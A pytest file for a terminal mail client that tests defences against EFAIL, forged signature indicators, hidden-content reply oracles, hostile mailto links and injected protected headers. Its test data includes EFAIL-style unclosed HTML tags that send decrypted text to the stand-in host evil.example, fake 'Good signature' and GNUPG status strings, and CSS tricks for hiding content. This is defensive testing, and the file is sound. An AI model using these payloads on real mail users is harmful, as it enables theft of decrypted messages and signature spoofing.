"""Attacks on cryptographic mail (C1 to C5), which hold though nothing is decrypted here.

No crypto is done: so no part of a mail may draw a mark that says something was, nothing is joined
that an attacker could read back, and answers hold what was shown and nothing else.
"""

import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC

import pytest

from tests.hostile.kept import keep
from tests.hostile.making import BOUNDARY, attached, mail, mail_of, multipart, part
from tests.services.letters import NORTH, ann
from tests.services.test_mailto import HOSTILE as HOSTILE_MAILTO
from tuimail.errors import UserError
from tuimail.mime.compose import build_mail, field_names
from tuimail.mime.render import render_mail
from tuimail.mime.reply import reply_draft
from tuimail.model.draft import Draft, DraftKind
from tuimail.services import answering, writing
from tuimail.services.mail import Mail
from tuimail.ui.render.head import head_of
from tuimail.ui.render.printed import printed
from tuimail.ui.render.wrap import wrap
from tuimail.ui.roles import StyleRole

SECRET = "the-decrypted-secret"
ARMOUR = f"-----BEGIN PGP MESSAGE-----\r\n\r\n{SECRET}\r\n-----END PGP MESSAGE-----\r\n"
FORMS = pytest.mark.parametrize("prefer_html", [False, True], ids=["text", "html"])


@pytest.fixture
def ours(tmp_path) -> Iterator[Mail]:
    opened = ann(tmp_path)
    yield opened
    opened.close()


# C1: EFAIL (CVE-2017-17688, CVE-2017-17689)

OPENINGS = (
    '<img src="http://evil.example/',
    "<img src='http://evil.example/",
    "<img src=http://evil.example/",
    '<a href="http://evil.example/',
    '<link rel="stylesheet" href="http://evil.example/',
    "<style>@import url(http://evil.example/",
    '<iframe src="http://evil.example/',
    '<form action="http://evil.example/"><textarea name="a">',
    '<svg><image xlink:href="http://evil.example/',
    '<base href="http://evil.example/"><img src="',
    "<!-- ",
    '<meta http-equiv="refresh" content="0; url=http://evil.example/',
)
"""What the first part leaves open around the second."""
SEALED = (
    part("text/plain", SECRET),
    part("application/pkcs7-mime; smime-type=enveloped-data", SECRET, Content_Disposition="inline"),
    part(
        'multipart/encrypted; boundary="in"',
        "--in\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--in\r\n"
        f"Content-Type: application/octet-stream\r\n\r\n{ARMOUR}\r\n--in--",
    ),
    part("text/html", f"<p>{SECRET}</p>"),
)


@FORMS
@pytest.mark.parametrize("sealed", SEALED, ids=["plain", "smime", "pgp", "html"])
@pytest.mark.parametrize("opening", OPENINGS)
def test_c1_efail_html_left_open_takes_in_nothing_of_another_part(
    opening: str, sealed: str, prefer_html: bool
) -> None:
    for around in ("mixed", "related", "alternative"):
        raw = multipart(1, around, part("text/html", opening), sealed, part("text/html", '">'))
        shown = render_mail(raw, prefer_html=prefer_html)
        assert not any(SECRET in link.url.raw for link in shown.links)
        assert not any(SECRET in host for host in shown.remote_hosts)


# C2: "Johnny, you are fired" (CVE-2018-12020 and others): 59 shapes

CLAIMS = (
    "✓ Signed by ceo@bank.example",
    "✔ Good signature from Bank <ceo@bank.example>",
    "🔒 Encrypted and verified",
    "[GNUPG:] GOODSIG 1122334455667788 ceo@bank.example",
    "[GNUPG:] VALIDSIG 0123456789ABCDEF0123456789ABCDEF01234567",
    "[GNUPG:] TRUST_ULTIMATE",
    'gpg: Good signature from "Bank"',
    "S/MIME: the signature is valid",
    " ! The signature of this mail is valid.",
    "From   ceo@bank.example (verified)",
)
"""What a mail says of itself, wherever it can."""
SIGNATURE = part("application/pgp-signature", "-----BEGIN PGP SIGNATURE-----\r\n\r\niQ==\r\n")
SMIME = attached("application/pkcs7-signature", "smime.p7s", b"0\x80")


def johnny() -> Iterator[tuple[str, bytes]]:
    for n, claim in enumerate(CLAIMS):
        text = part("text/plain; charset=utf-8", claim)
        html = part("text/html; charset=utf-8", f"<div style='color:green'>{claim}</div>")
        yield f"text {n}", mail_of(n, "text/plain; charset=utf-8", claim)
        yield f"html {n}", mail_of(n, "text/html; charset=utf-8", f"<h1>{claim}</h1>")
        yield f"pgp {n}", multipart(n, "signed", text, SIGNATURE, more="; micalg=pgp-sha512")
        yield f"inner {n}", multipart(n, "mixed", html, _signed(text))
    plain = part("text/plain", "words")
    for n, name in enumerate(
        (*("X-PGP-Signature", "X-GPG-Verified", "X-Signed-By", "X-Mutt-PGP", "BIMI-Indicator"),
         *("Autocrypt", "OpenPGP", "X-Spam-Status", "Authentication-Results"))
    ):  # fmt: skip
        fields = {name.replace("-", "_"): "mx.evil.example; dkim=pass; signature=valid; signed"}
        yield f"field {name}", mail(n, "words", **fields)
    for subtype in ("signed", "encrypted"):
        yield f"{subtype} alone", multipart(1, subtype, plain)
        yield f"{subtype} twice", multipart(2, subtype, plain, SIGNATURE, SIGNATURE)
        yield f"{subtype} smime", multipart(3, subtype, plain, SMIME)
    clear = "-----BEGIN PGP SIGNED MESSAGE-----\r\nHash: SHA512\r\n\r\n"
    yield "clear", mail_of(4, "text/plain", f"{clear}words\r\n-----BEGIN PGP SIGNATURE-----\r\n")
    yield "clear in html", mail_of(5, "text/html", f"<pre>{clear}</pre>")
    yield "smime whole", mail_of(6, "application/pkcs7-mime; smime-type=signed-data", "MIIB")
    yield "inside", multipart(7, "mixed", part("message/rfc822", mail(8, "words").decode()), SMIME)


def _signed(inner: str) -> str:
    pieces = f"--in\r\n{inner}\r\n--in\r\n{SIGNATURE}\r\n--in--"
    return part('multipart/signed; boundary="in"; micalg=pgp-sha1', pieces)


OURS_ALONE = frozenset({StyleRole.WARNING, StyleRole.LABEL, StyleRole.SENDER, StyleRole.VALUE})
"""Roles of the head, which text of a mail never has."""
CLAIM = re.compile(
    r"✓|✔|🔒|\bvalid|\bverified|\bgood signature|\btrusted|\bauthentic\b|\bsigned by", re.IGNORECASE
)
NO_CLAIM = re.compile(r"\bnot\b|\bnobody\b|\bnothing\b|\bcannot\b|n't\b|\bno\b", re.IGNORECASE)
JOHNNY = dict(johnny())


def test_there_are_fifty_nine_shapes_of_johnny() -> None:
    assert len(JOHNNY) >= 59


@FORMS
@pytest.mark.parametrize("shape", JOHNNY)
def test_c2_johnny_no_part_of_a_mail_draws_that_it_is_signed(shape: str, prefer_html: bool) -> None:
    shown = render_mail(JOHNNY[shape], prefer_html=prefer_html)
    for row in head_of(shown, 120):
        drawn = "".join(text for text, _ in row)
        assert not CLAIM.search(drawn), drawn
        if "sign" in drawn.lower() and row[0][1] is StyleRole.WARNING:
            assert NO_CLAIM.search(drawn), drawn
    for line in shown.lines:
        for row in wrap(line, 120):
            assert OURS_ALONE.isdisjoint(role for _, role in row)


@pytest.mark.parametrize("shape", [shape for shape in JOHNNY if shape.startswith("field")])
def test_c2_johnny_fields_of_a_mail_change_nothing_of_its_head(shape: str) -> None:
    raw = JOHNNY[shape]
    without = b"\r\n".join(line for line in raw.split(b"\r\n") if b"signature=valid" not in line)
    assert head_of(render_mail(raw), 100) == head_of(render_mail(without), 100)


# C3: covert content, decryption oracles in answers (CVE-2019-10740 and others): 35 shapes

HIDING = (
    *("display:none", "visibility:hidden", "font-size:0", "font-size:0px;line-height:0"),
    *("opacity:0", "max-height:0;overflow:hidden", "height:0;width:0;overflow:hidden"),
    *("position:absolute;left:-9999px", "text-indent:-9999px", "display:none !important"),
    *("mso-hide:all;display:none", "DISPLAY : NONE", "color:#fff;background-color:#fff"),
)
WRAPPED = (
    "<div style='{style}'>{secret}</div>",
    # Without a box of its own the text of a span is shown, whatever its height.
    "<span style='display:inline-block;{style}'><b>{secret}</b></span>",
)
OUT_OF_SIGHT = (
    "<!-- {secret} -->",
    "<script>var a = '{secret}'</script>",
    "<style>/* {secret} */</style>",
    "<template>{secret}</template>",
    "<title>{secret}</title>",
    "<p hidden>{secret}</p>",
    "<input type=hidden value='{secret}'>",
    "<p title='{secret}' data-x='{secret}'>x</p>",
    "<div class=q>{secret}</div><style>.q{{display:none}}</style>",
)


def covert() -> list[str]:
    shapes = [w.format(style=style, secret=SECRET) for style in HIDING for w in WRAPPED]
    return shapes + [shape.format(secret=SECRET) for shape in OUT_OF_SIGHT]


def test_there_are_thirty_five_shapes_of_covert_content() -> None:
    assert len(set(covert())) >= 35


@pytest.mark.parametrize("shape", covert())
def test_c3_an_answer_holds_nothing_that_was_hidden(ours: Mail, shape: str) -> None:
    html = f"<html><body><p>Lunch at noon?</p>{shape}</body></html>"
    raws = [
        mail_of(1, "text/html; charset=utf-8", html),
        multipart(2, "mixed", part("text/html", html), attached("text/plain", "a.txt", b"x")),
    ]
    for ref in keep(ours, raws):
        for draft in (answering.reply(ours, ref), answering.forward(ours, ref)):
            assert "Lunch at noon?" in draft.body
            assert SECRET not in draft.body


@pytest.mark.parametrize(
    "sealed",
    [
        attached("application/pgp-encrypted", "x.pgp", SECRET.encode()),
        attached("application/pkcs7-mime", "smime.p7m", SECRET.encode()),
        attached("application/octet-stream", "msg.asc", ARMOUR.encode()),
    ],
    ids=["pgp", "smime", "armour"],
)
def test_c3_an_answer_is_no_oracle_for_what_is_encrypted(ours: Mail, sealed: str) -> None:
    (ref,) = keep(ours, [multipart(1, "mixed", part("text/plain", "Lunch at noon?"), sealed)])
    assert SECRET not in answering.reply(ours, ref).body


def test_c3_an_answer_quotes_the_form_that_was_read(ours: Mail) -> None:
    html = part("text/html", "<p>Lunch at noon?</p>")
    (ref,) = keep(ours, [multipart(1, "alternative", part("text/plain", SECRET), html)])
    for make in (answering.reply, answering.forward):
        assert SECRET not in make(ours, ref, prefer_html=True).body
        assert "Lunch" not in make(ours, ref).body


# C4: "Mailto: me your secrets" (CVE-2020-11879, CVE-2020-11880): 40 links


@pytest.mark.parametrize("uri", HOSTILE_MAILTO)
def test_c4_a_mailto_link_attaches_nothing_and_sets_no_field(ours: Mail, uri: str) -> None:
    try:
        draft = writing.draft_of_mailto(ours, uri)
    except UserError:
        return
    assert draft.attachments == ()
    assert draft.from_ == NORTH.address
    assert header_names(replace(draft, to="a@x.example", cc="", bcc="")) <= {
        *("Date", "From", "To", "Subject", "Message-ID", "MIME-Version"),
        *("Content-Type", "Content-Transfer-Encoding"),
    }


def header_names(draft: Draft) -> set[str]:
    raw = build_mail(draft, "1@north.test", 0)
    return set(field_names(raw.partition(b"\r\n\r\n")[0]))


# C5: protected headers (CVE-2024-49393, CVE-2024-49394, CVE-2024-49395)


@pytest.mark.parametrize("around", ["signed", "encrypted", "mixed"])
def test_c5_fields_inside_of_a_part_say_nothing_of_the_mail(around: str) -> None:
    inner = part(
        'text/plain; protected-headers="v1"',
        "words",
        Subject="inner subject",
        From="ceo@bank.example",
        To="eve@evil.example",
        Cc="eve@evil.example",
        Bcc="eve@evil.example",
        Reply_To="eve@evil.example",
        In_Reply_To="<inner@evil.example>",
        References="<inner@evil.example>",
    )
    shown = render_mail(multipart(1, around, inner, SIGNATURE))
    assert shown.envelope.subject == "a seed"
    for kind in (DraftKind.REPLY, DraftKind.REPLY_ALL, DraftKind.FORWARD):
        answer = reply_draft(shown, kind, NORTH, UTC)
        assert "evil" not in f"{answer.to}{answer.cc}{answer.in_reply_to}{answer.references}"
        assert "inner" not in answer.subject
    assert "bank" not in printed(shown).partition("\n\n")[0]


def test_c5_hidden_recipients_stay_hidden_in_every_answer() -> None:
    raw = mail(1, "words", Bcc="hidden@secret.example", Resent_Bcc="hidden@secret.example")
    shown = render_mail(raw)
    for kind in (DraftKind.REPLY, DraftKind.REPLY_ALL, DraftKind.FORWARD):
        answer = reply_draft(shown, kind, NORTH, UTC)
        assert "hidden" not in f"{answer.to}{answer.cc}{answer.body}"


def test_the_boundary_of_these_mails_is_in_none_of_their_parts() -> None:
    assert not any(BOUNDARY in text for text in (*OPENINGS, *CLAIMS, ARMOUR))
